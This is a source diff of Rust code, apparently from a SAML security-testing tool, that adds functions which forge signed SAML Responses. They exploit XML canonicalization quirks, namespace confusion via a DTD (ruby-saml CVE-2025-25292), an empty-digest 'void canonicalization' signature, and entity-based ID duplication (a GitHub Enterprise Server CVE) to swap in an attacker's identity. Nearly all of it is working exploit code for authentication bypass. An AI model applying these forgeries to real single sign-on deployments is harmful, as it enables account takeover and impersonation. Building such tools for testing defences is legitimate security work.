@@ -2,10 +2,13 @@
 
 use crate::bytes::{after_start_tag, before_end_tag, child, insert, Doc, Edits};
 use crate::crypto::{reference_digest, seed_digest_method, signed_info};
+use crate::family::token::{elements, resigned};
 use crate::family::{evil_id, forged, Parts};
 use crate::forge::{Forge, Forged, Skip};
 use crate::identity;
-use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};
+use base64::Engine;
+use openssl::hash::MessageDigest;
+use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, EXC_C14N, PROTOCOL_NS};
 
 const PLACEHOLDER: &str = "FORGED_DIGEST_PLACEHOLDER";
 
@@ -137,6 +140,238 @@ pub fn enveloped_over_removal(f: &Forge) -> Result<Forged, Skip> {
     let fake = format!("<ds:Signature xmlns:ds=\"{DSIG_NS}\">{forged_subject}</ds:Signature>");
     forged(
         p.splice_unsigned_response(vec![insert(sig.range().end, fake)]),
+        swap,
+    )
+}
+
+/// Exclusive C14N that keeps comments.
+const EXC_C14N_WITH_COMMENTS: &str = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
+/// Inclusive Canonical XML 1.0.
+const INCLUSIVE_C14N: &str = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
+/// The XPath filtering transform.
+const XPATH_TRANSFORM: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";
+
+/// Sets the Algorithm of every `(DSIG_NS, element)` whose Algorithm is `from` to `to`.
+fn algorithms(doc: &Doc, element: &str, from: &str, to: &str) -> Edits {
+    elements(doc, DSIG_NS, element)
+        .filter(|n| n.attribute("Algorithm") == Some(from))
+        .filter_map(|n| crate::bytes::attr_value(n, "Algorithm"))
+        .map(|r| (r, to.to_owned()))
+        .collect()
+}
+
+/// The IdP signs with exclusive C14N *with comments* as the Reference's transform.
+pub fn transform_with_comments(f: &Forge) -> Result<Forged, Skip> {
+    resigned(f, &|d| {
+        Ok(algorithms(d, "Transform", EXC_C14N, EXC_C14N_WITH_COMMENTS))
+    })
+}
+
+/// The IdP signs with inclusive C14N, both for SignedInfo and as the Reference's transform.
+pub fn inclusive_c14n(f: &Forge) -> Result<Forged, Skip> {
+    resigned(f, &|d| {
+        let mut edits = algorithms(d, "Transform", EXC_C14N, INCLUSIVE_C14N);
+        edits.extend(algorithms(
+            d,
+            "CanonicalizationMethod",
+            EXC_C14N,
+            INCLUSIVE_C14N,
+        ));
+        Ok(edits)
+    })
+}
+
+/// The IdP signs with an XPath filter transform after the enveloped one (here a harmless
+/// filter dropping comments; XPath filters can exclude any part of the element from the
+/// digest).
+pub fn xpath_transform(f: &Forge) -> Result<Forged, Skip> {
+    resigned(f, &|d| {
+        Ok(elements(d, DSIG_NS, "Transform")
+            .filter(|n| n.attribute("Algorithm") == Some(ENVELOPED))
+            .map(|n| {
+                let tag = qualified_name(d, n);
+                insert(
+                    n.range().end,
+                    format!("<{tag} Algorithm=\"{XPATH_TRANSFORM}\"><{x}>not(self::comment())</{x}></{tag}>", x = tag.replace("Transform", "XPath")),
+                )
+            })
+            .collect())
+    })
+}
+
+/// The element's name as written (with its prefix, if any).
+fn qualified_name<'a>(doc: &Doc<'a>, n: crate::bytes::Node) -> &'a str {
+    let start = n.range().start + 1;
+    let len = doc.src[start..]
+        .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
+        .unwrap_or(0);
+    &doc.src[start..start + len]
+}
+
+/// Base64 of the digest of nothing: what a verifier that digests a failed canonicalization as
+/// empty computes (`47DEQpj8…` for SHA-256).
+fn empty_digest(method: MessageDigest) -> Result<String, Skip> {
+    let hash = openssl::hash::hash(method, b"")
+        .map_err(|e| Skip::Failed(format!("digest failed: {e}")))?;
+    Ok(base64::engine::general_purpose::STANDARD.encode(hash))
+}
+
+/// Edits setting every DigestValue under `signature` to `value`.
+fn digest_values(doc: &Doc, signature: crate::bytes::Node, value: &str) -> Edits {
+    signature
+        .descendants()
+        .filter(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
+        .map(|dv| {
+            let open = after_start_tag(doc.src, dv);
+            (
+                open..before_end_tag(doc.src, dv).max(open),
+                value.to_owned(),
+            )
+        })
+        .collect()
+}
+
+/// Where a new attribute goes in `node`'s start tag: right after its name.
+fn after_name(doc: &Doc, node: crate::bytes::Node) -> usize {
+    node.range().start + 1 + qualified_name(doc, node).len()
+}
+
+/// ruby-saml CVE-2025-25292 in SAML Raider's template shape: a DTD declares `xmlns` on
+/// `Signature` twice, so libxml2 (first declaration) puts an unprefixed `Signature` in the
+/// XML-DSig namespace and REXML (last declaration) does not. The genuine signature, unprefixed,
+/// goes in StatusDetail: libxml2's first `ds:Signature`, whose SignedInfo verifies. The
+/// Assertion is forged in place, keeps its signature with DigestValue = H(""), and carries a
+/// namespace URI libxml2 cannot canonicalize: a verifier digesting the failed result as empty
+/// matches REXML's DigestValue.
+pub fn namespace_confusion(f: &Forge) -> Result<Forged, Skip> {
+    let seed = crate::family::xsw::embeddable(f.seed);
+    let doc = Doc::parse(seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let status = child(p.root, PROTOCOL_NS, "Status")
+        .ok_or_else(|| Skip::NotApplicable("the seed has no Status".into()))?;
+    let (mut edits, swap) =
+        identity::rewrite_edits(&doc, p.assertion.range(), &identity::forger(&doc));
+    edits.extend(digest_values(
+        &doc,
+        sig,
+        &empty_digest(seed_digest_method(sig))?,
+    ));
+    edits.push(insert(
+        after_name(&doc, p.assertion),
+        " xmlns:example=\"http://example.com\u{80}\"",
+    ));
+    let moved = unprefixed_signature(&doc, sig);
+    edits.push(insert(
+        before_end_tag(doc.src, status),
+        format!("<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\">{moved}</samlp:StatusDetail>"),
+    ));
+    let xml = p.splice_unsigned_response(edits);
+    let root = qualified_name(&doc, p.root);
+    forged(
+        format!("<!DOCTYPE {root} [<!ATTLIST Signature xmlns CDATA #FIXED \"{DSIG_NS}\" xmlns CDATA \"block\">]>{xml}"),
+        swap,
+    )
+}
+
+/// A copy of `signature` named plain `Signature`, without its default-namespace declaration
+/// (a prefix declaration, if any, stays for its children).
+fn unprefixed_signature(doc: &Doc, signature: crate::bytes::Node) -> String {
+    let open_end = after_start_tag(doc.src, signature);
+    let name_end = after_name(doc, signature);
+    let attributes = doc.src[name_end..open_end].replace(&format!(" xmlns=\"{DSIG_NS}\""), "");
+    let inner = &doc.src[open_end..before_end_tag(doc.src, signature).max(open_end)];
+    format!("<Signature{attributes}{inner}</Signature>")
+}
+
+/// A "void canonicalization" Golden SAML Response (CVE-2025-66568; CVE-2025-66578 class): the
+/// Assertion carries a relative namespace URI, so libxml2 cannot canonicalize it nor the
+/// SignedInfo inside it. A signer that took the failed result as empty signed "" and digested
+/// "" (DigestValue H("")); that signature covers nothing, so any Assertion verifies wherever a
+/// failed canonicalization comes out empty. Identity forged.
+pub fn void_canonicalization(f: &Forge) -> Result<Forged, Skip> {
+    let key = f.idp_key()?;
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let (mut edits, swap) =
+        identity::rewrite_edits(&doc, p.assertion.range(), &identity::forger(&doc));
+    edits.extend(digest_values(
+        &doc,
+        sig,
+        &empty_digest(seed_digest_method(sig))?,
+    ));
+    edits.push(insert(
+        after_name(&doc, p.assertion),
+        " xmlns:void=\"relative\"",
+    ));
+    let method = signed_info(sig)
+        .and_then(|si| child(si, DSIG_NS, "SignatureMethod"))
+        .and_then(|m| m.attribute("Algorithm"))
+        .unwrap_or_default();
+    let digest = if method.ends_with("sha1") {
+        MessageDigest::sha1()
+    } else {
+        MessageDigest::sha256()
+    };
+    let mut signer = openssl::sign::Signer::new(digest, &key.key)
+        .map_err(|e| Skip::Failed(format!("cannot sign: {e}")))?;
+    let value = signer
+        .sign_oneshot_to_vec(b"")
+        .map_err(|e| Skip::Failed(format!("cannot sign: {e}")))?;
+    if let Some(v) = child(sig, DSIG_NS, "SignatureValue") {
+        let open = after_start_tag(doc.src, v);
+        edits.push((
+            open..before_end_tag(doc.src, v).max(open),
+            base64::engine::general_purpose::STANDARD.encode(value),
+        ));
+    }
+    forged(p.splice_unsigned_response(edits), swap)
+}
+
+/// GitHub Enterprise Server CVE-2025-23369 in SAML Raider's template shape: the Response's ID
+/// is an entity holding the Assertion's ID, a copy of the Assertion's signature sits on the
+/// Response with the untouched signed Assertion in its ds:Object (ID = `&P;` + ID), and the
+/// forged Assertion (ID + `ffff`) replaces the original. In the original parse the IDs are
+/// unique; in a libxml2 copy of the document the entity references vanish from attributes,
+/// so the Reference resolves to the signed copy while the reader takes /Response/Assertion.
+pub fn entity_defined_id(f: &Forge) -> Result<Forged, Skip> {
+    let seed = crate::family::xsw::embeddable(f.seed);
+    let doc = Doc::parse(seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let id = p.assertion_id();
+    let start_tag = &doc.src[sig.range().start..after_start_tag(doc.src, sig)];
+    if !start_tag.contains("xmlns") {
+        return Err(Skip::NotApplicable(
+            "the Signature's namespace is declared on an ancestor; moved, it would be unbound"
+                .into(),
+        ));
+    }
+    let id_value = crate::bytes::attr_value(p.assertion, "ID")
+        .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
+    let signed_copy = crate::family::cut(
+        doc.src,
+        p.assertion.range(),
+        vec![(id_value, format!("&BypassIDUniqueness;{id}"))],
+    );
+    let at = before_end_tag(doc.src, sig);
+    let copied = format!(
+        "{}<Object xmlns=\"{DSIG_NS}\">{signed_copy}</Object>{}",
+        &doc.src[sig.range().start..at],
+        &doc.src[at..sig.range().end]
+    );
+    let root_id = crate::bytes::attr_value(p.root, "ID")
+        .ok_or_else(|| Skip::NotApplicable("the Response has no ID".into()))?;
+    let (evil, swap) = p.forged_assertion_with_id(&format!("{id}ffff"))?;
+    let xml = p.splice_unsigned_response(vec![
+        (root_id, "&idViaEntity;".into()),
+        insert(p.after_response_header(), copied),
+        (p.assertion.range(), evil),
+    ]);
+    let root = qualified_name(&doc, p.root);
+    forged(
+        format!("<!DOCTYPE {root} [<!ENTITY idViaEntity \"{id}\"><!ENTITY BypassIDUniqueness \"&#x50;\">]>{xml}"),
         swap,
     )
 }
